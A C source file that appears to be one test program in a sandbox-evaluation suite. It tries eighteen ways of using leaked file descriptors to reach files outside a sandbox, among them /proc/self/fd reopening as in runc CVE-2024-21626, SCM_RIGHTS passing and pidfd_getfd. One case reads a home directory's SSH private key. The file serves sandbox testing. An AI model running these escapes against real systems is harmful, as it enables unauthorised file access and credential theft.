/*
 * Uses descriptors that a careless client left open. leaked-descriptors <way> [target]; 7 is a file outside, open to read and
 * write, 8 is its folder.
 * Family: descriptors
 * Facts: rights are decided when a file is opened, so an inherited descriptor passes every later wall (man 2 open; Landlock:
 * "file descriptors opened before the sandboxing are not restricted"). A folder's descriptor opens the whole tree:
 * CVE-2024-21626 of runc (fixed in 1.1.12) was a working folder at /proc/self/fd/7.
 * Witness: the decoy in the output; the file outside changed.
 * Silent: a descriptor that is not there is no access that could be refused.
 * Cases: name | what it tries | attack | twin | marks
 *   openat | open a file below the folder | openat | own | descriptor silent
 *   fchdir | make the folder the working one, then open | fchdir | own | descriptor silent
 *   proc-fd | open a file through /proc/self/fd/8 (CVE-2024-21626) | proc-fd | own | descriptor silent
 *   reopen | open the file again through /proc/self/fd/7 | reopen | own | descriptor silent
 *   pread | read the file | pread | own | descriptor silent
 *   pwrite | write the file | pwrite | own | descriptor silent
 *   ftruncate | shorten the file | ftruncate | own | descriptor silent
 *   mmap | write the file through its memory | mmap | own | descriptor silent
 *   sendfile | let the kernel copy the file to us | sendfile {grant}/copy | own | descriptor silent
 *   copy_file_range | copy the file inside the kernel | copy_file_range {grant}/copy | own | descriptor silent
 *   splice | splice the file through a pipe | splice | own | descriptor silent
 *   fchmod | change the file's mode | fchmod | own | descriptor silent
 *   linkat | give the file a name in the grant | linkat {grant}/second | own | descriptor silent
 *   unlinkat | delete a file of the folder | unlinkat | own | descriptor silent
 *   parent | go up from the folder, to the home | parent | own | descriptor silent
 *   to-child | hand the file to a program that is executed | to-child | own | descriptor silent
 *   passed | receive the file over a socket pair (SCM_RIGHTS) | passed | own | descriptor silent
 *   pidfd | take the file from a child that has it | pidfd | own | descriptor silent
 */
#include "attack.h"

#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/uio.h>

static void show(const char *path) { reached_content((int)must("open", open(path, O_RDONLY)), "read"); }

int main(int argc, char **argv) {
  const char *way = argument(argc, argv, 1);
  const char *target = argc > 2 ? argv[2] : "";
  if (is(way, "child")) reached_content(7, "read");
  if (is(way, "own")) {
    int own = (int)must("open", open("/dev/null", O_RDWR));
    must("write", write(own, "x", 1));
  } else if (is(way, "openat")) reached_content((int)must(way, openat(8, "secret.txt", O_RDONLY)), "read");
  else if (is(way, "fchdir")) {
    must(way, fchdir(8));
    show("secret.txt");
  } else if (is(way, "proc-fd")) show("/proc/self/fd/8/secret.txt");
  else if (is(way, "reopen")) show("/proc/self/fd/7");
  else if (is(way, "pread")) {
    lseek(7, 0, SEEK_SET);
    reached_content(7, way);
  } else if (is(way, "pwrite")) must(way, pwrite(7, "written", 7, 0));
  else if (is(way, "ftruncate")) must(way, ftruncate(7, 0));
  else if (is(way, "mmap")) {
    char *memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, 7, 0);
    if (memory == MAP_FAILED) refused(way, errno);
    memcpy(memory, "written", 7);
    msync(memory, 4096, MS_SYNC);
  } else if (is(way, "sendfile") || is(way, "copy_file_range")) {
    int copy = (int)must("create", open(target, O_CREAT | O_RDWR | O_TRUNC, 0600));
    off_t from = 0;
    if (is(way, "sendfile")) must(way, sendfile(copy, 7, &from, 64));
    else must(way, copy_file_range(7, &from, copy, NULL, 64, 0));
    show(target);
  } else if (is(way, "splice")) {
    int ends[2];
    off_t from = 0;
    must("pipe", pipe(ends));
    must(way, splice(7, &from, ends[1], NULL, 64, 0));
    reached_content(ends[0], "read");
  } else if (is(way, "fchmod")) must(way, fchmod(7, 0777));
  else if (is(way, "linkat")) must(way, linkat(AT_FDCWD, "/proc/self/fd/7", AT_FDCWD, target, AT_SYMLINK_FOLLOW));
  else if (is(way, "unlinkat")) must(way, unlinkat(8, "other.txt", 0));
  else if (is(way, "parent")) reached_content((int)must(way, openat(8, "../home/.ssh/id_ed25519", O_RDONLY)), "read");
  else if (is(way, "to-child")) {
    must("dup", fcntl(7, F_GETFD));
    execl(argv[0], argv[0], "child", (char *)NULL);
    refused("execute", errno);
  } else if (is(way, "passed") || is(way, "pidfd")) {
    int pair[2];
    must("7 is open", fcntl(7, F_GETFD));
    prepare("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
    pid_t child = fork();
    char space[CMSG_SPACE(sizeof(int))] = "";
    struct iovec part = {.iov_base = (char[1]){"x"[0]}, .iov_len = 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = space, .msg_controllen = sizeof space};
    if (child == 0) {
      if (is(way, "pidfd")) for (;;) pause();
      struct cmsghdr *head = CMSG_FIRSTHDR(&message);
      head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof(int));
      memcpy(CMSG_DATA(head), &(int){7}, sizeof(int));
      _exit(sendmsg(pair[1], &message, 0) < 0);
    }
    close(7);
    int taken;
    if (is(way, "pidfd")) {
      int handle = (int)must("pidfd_open", syscall(434, child, 0));
      taken = (int)syscall(438, handle, 7, 0);
      int error = errno;
      kill(child, SIGKILL);
      if (taken < 0) refused("pidfd_getfd", error);
    } else {
      must("recvmsg", recvmsg(pair[0], &message, 0));
      struct cmsghdr *head = CMSG_FIRSTHDR(&message);
      if (head == NULL) refused("nothing was passed", EBADF);
      memcpy(&taken, CMSG_DATA(head), sizeof taken);
    }
    lseek(taken, 0, SEEK_SET);
    reached_content(taken, "read");
  } else {
    errno = EINVAL;
    broken("way");
  }
  reached(way);
}
